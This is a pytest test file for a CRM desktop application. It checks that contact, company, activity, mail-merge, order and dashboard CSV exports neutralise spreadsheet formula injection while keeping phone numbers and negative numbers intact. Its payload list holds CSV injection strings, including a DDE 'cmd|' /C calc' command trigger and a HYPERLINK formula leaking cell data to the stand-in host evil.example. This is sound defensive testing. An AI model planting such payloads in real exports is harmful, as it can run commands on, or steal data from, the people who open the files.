"""CSV injection (OWASP): no CSV export writes a cell a spreadsheet would run as a formula;
phone numbers and negative numbers stay usable; the app's own import takes the quote off."""

from __future__ import annotations

import csv
import datetime as dt
import decimal
from pathlib import Path
from types import SimpleNamespace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from crm_desktop.clock import FixedClock
from crm_desktop.data.models import (
    Activity,
    ActivityKind,
    Address,
    Company,
    Email,
    EmailKind,
    Person,
    Phone,
    PhoneKind,
)
from crm_desktop.data.store import Store
from crm_desktop.interop import csvsafe
from crm_desktop.interop.csv_contacts import read_csv
from crm_desktop.interop.records import ContactRecord
from crm_desktop.services import campaigns, exporter
from crm_desktop.services.importer import import_file
from crm_desktop.services.orders import OrderInput, OrderLineInput, create_order, export_orders

WHEN = dt.datetime(2026, 11, 20, 14, 30, tzinfo=dt.UTC)

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "=1+1",
    "-A1",
    "+ cmd|x",
]
PLAIN = [
    "",
    "Anna",
    "+49 151 2345678",
    "+4915112345678",
    "+49 (0)711 123-45",
    "-12.50",
    "-1.234,56",
    "-7",
    "0711 / 12345",
    "a=b",
    "Müller-Lüdenscheidt",
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_formula_cells_get_a_quote(text: str) -> None:
    assert csvsafe.neutralise(text) == "'" + text
    assert csvsafe.restore(csvsafe.neutralise(text)) == text


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_numbers_and_phone_numbers_stay(text: str) -> None:
    assert csvsafe.neutralise(text) == text
    assert csvsafe.restore(text) == text


def test_numbers_and_quoted_cells() -> None:
    assert csvsafe.neutralise(-3) == -3
    assert csvsafe.neutralise(decimal.Decimal("-3.5")) == decimal.Decimal("-3.5")
    # a cell that starts with a quote itself keeps it through export and import
    assert csvsafe.neutralise("'=x") == "''=x"
    assert csvsafe.restore("''=x") == "'=x"
    assert csvsafe.neutralise("'Tach'") == "'Tach'"
    assert csvsafe.restore("'Tach'") == "'Tach'"


@given(st.text(alphabet=st.sampled_from(list("'=+-@\t\r 0123456789.,()/aZ|!＝")), max_size=12))
def test_round_trip_is_lossless(text: str) -> None:
    safe = csvsafe.neutralise(text)
    assert csvsafe.restore(safe) == text
    assert not (safe[:1] in csvsafe.FORMULA_LEADS and csvsafe.needs_quote(safe))


def _cells(path: Path, delimiter: str = ";") -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh, delimiter=delimiter))


def _assert_safe(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not csvsafe.needs_quote(cell) or cell.startswith("'"), cell


def _fill(store: Store) -> dict[str, int]:
    with store.session() as s:
        evil = Company(name="=cmd|' /C calc'!A0", notes="@SUM(1)")
        s.add(evil)
        s.flush()
        person = Person(
            given_name=PAYLOADS[0],
            family_name="+SUM(A1:A9)",
            position="\t=1+1",
            company_id=evil.id,
            notes="-2+3+cmd|' /C calc'!A0",
            emails=[Email(kind=EmailKind.WORK, address="anna@example.org")],
            phones=[Phone(kind=PhoneKind.MOBILE, number="+4915112345678")],
            addresses=[Address(street="@Weg 1", postcode="70173", city="=Stuttgart", country="DE")],
        )
        s.add(person)
        s.flush()
        s.add(
            Activity(
                kind=ActivityKind.CALL,
                occurred_at=WHEN,
                person_id=person.id,
                subject="=1+1",
                text="-cmd",
            )
        )
        return {"person": person.id, "company": evil.id}


def test_people_export_is_safe_and_reads_back(sqlite_store: Store, tmp_path: Path) -> None:
    _fill(sqlite_store)
    out = tmp_path / "people.csv"
    with sqlite_store.reader() as s:
        exporter.export_csv(s, "people", out)
    rows = _cells(out)
    _assert_safe(rows)
    header, row = rows[0], rows[1]
    cell = dict(zip(header, row, strict=True))
    assert cell["Given name"] == "'" + PAYLOADS[0]
    assert "+4915112345678" in row  # the phone number is written as it is
    (rec,) = [r for r in read_csv(out) if isinstance(r, ContactRecord)]
    assert (rec.given_name, rec.family_name) == (PAYLOADS[0], "+SUM(A1:A9)")
    assert rec.company == "=cmd|' /C calc'!A0"
    assert rec.notes == "-2+3+cmd|' /C calc'!A0"
    assert rec.phones == [(PhoneKind.MOBILE, "+4915112345678")]
    assert (rec.addresses[0].street, rec.addresses[0].city) == ("@Weg 1", "=Stuttgart")


def test_people_export_import_round_trip(
    sqlite_store: Store, tmp_path: Path, clock: FixedClock
) -> None:
    from crm_desktop.data.store import open_store

    _fill(sqlite_store)
    out = tmp_path / "people.csv"
    with sqlite_store.reader() as s:
        exporter.export_csv(s, "people", out)
    other = open_store(data_dir=tmp_path / "other")
    try:
        report = import_file(other, out, clock=clock)
        assert report.imported == 1
        with other.reader() as s:
            (person,) = s.query(Person).all()
            assert (person.given_name, person.family_name) == (PAYLOADS[0], "+SUM(A1:A9)")
            assert person.company is not None and person.company.name == "=cmd|' /C calc'!A0"
            assert [p.number for p in person.phones] == ["+4915112345678"]
    finally:
        other.dispose()


def test_company_and_activity_exports_are_safe(sqlite_store: Store, tmp_path: Path) -> None:
    _fill(sqlite_store)
    with sqlite_store.reader() as s:
        exporter.export_csv(s, "companies", tmp_path / "c.csv")
        exporter.export_csv(s, "activities", tmp_path / "a.csv")
    companies = _cells(tmp_path / "c.csv")
    activities = _cells(tmp_path / "a.csv")
    _assert_safe(companies)
    _assert_safe(activities)
    assert "'=cmd|' /C calc'!A0" in companies[1]
    assert "'=1+1" in activities[1] and "'-cmd" in activities[1]


def test_mail_merge_export_is_safe(sqlite_store: Store, tmp_path: Path) -> None:
    ids = _fill(sqlite_store)
    with sqlite_store.reader() as s:
        campaigns.export_mail_merge(s, [ids["person"]], tmp_path / "m.csv")
    rows = _cells(tmp_path / "m.csv")
    _assert_safe(rows)
    assert "'+SUM(A1:A9)" in rows[1] and "+4915112345678" in rows[1]


def test_order_export_is_safe(sqlite_store: Store, tmp_path: Path, clock: FixedClock) -> None:
    ids = _fill(sqlite_store)
    with sqlite_store.session() as s:
        create_order(
            s,
            OrderInput(
                company_id=ids["company"],
                order_date=dt.date(2026, 1, 10),
                notes="=HYPERLINK(1)",
                lines=[
                    OrderLineInput("+Rabatt", decimal.Decimal("1"), decimal.Decimal("5.00")),
                ],
            ),
            clock=clock,
        )
    out = tmp_path / "orders.csv"
    with sqlite_store.reader() as s:
        export_orders(s, "csv", out)
    rows = _cells(out)
    _assert_safe(rows)
    cell = dict(zip(rows[0], rows[1], strict=True))
    assert cell["order_notes"] == "'=HYPERLINK(1)"
    assert cell["description"] == "'+Rabatt"
    assert cell["company_name"] == "'=cmd|' /C calc'!A0"
    assert cell["unit_price"].startswith("5")  # numbers are written as they are


def test_dashboard_csv_is_safe(tmp_path: Path) -> None:
    from crm_desktop.ui.dashboard import ChartCard

    fake = SimpleNamespace(data=SimpleNamespace(headers=["Name", "Sum"], rows=[["=1+1", -3]]))
    out = tmp_path / "d.csv"
    ChartCard.export_csv(fake, out)  # type: ignore[arg-type]
    assert _cells(out) == [["Name", "Sum"], ["'=1+1", "-3"]]
